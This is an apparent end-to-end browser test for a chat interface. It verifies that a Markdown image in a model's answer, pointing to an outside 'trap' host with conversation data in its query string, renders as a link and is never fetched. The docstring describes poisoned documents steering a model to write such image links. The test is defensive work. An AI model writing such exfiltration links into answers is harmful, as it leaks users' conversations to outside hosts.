"""L4: an answer that embeds an image from another host (what a poisoned document would make a model write) never
makes the browser fetch it: the image shows as a link, and the host receives nothing."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.e2e.pages import last_answer, pick_model, send, sign_in, wait_answer
from tests.e2e.stack import FAST_MODEL

pytestmark = pytest.mark.e2e


def test_an_image_in_an_answer_is_a_link_and_its_url_is_never_requested(new_page, local_stack, trap, screenshots):
    page = new_page()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    sign_in(page, local_stack, local_stack.user)
    pick_model(page, FAST_MODEL)
    leak = f"{trap.url}/pixel.png?d=the-conversation"
    send(page, f"see ![chart]({leak}) here")  # the stand-in echoes it back as the answer's Markdown
    wait_answer(page, "Echo: see")
    answer = last_answer(page)
    link = answer.get_by_test_id("answer-image-link")
    expect(link).to_have_text("[image: chart]")
    expect(link).to_have_attribute("href", leak)
    expect(answer.locator("img")).to_have_count(0)
    screenshots(page, "answer-image-as-link")
    assert trap.hits == [] and not [url for url in requested if url.startswith(trap.url)]
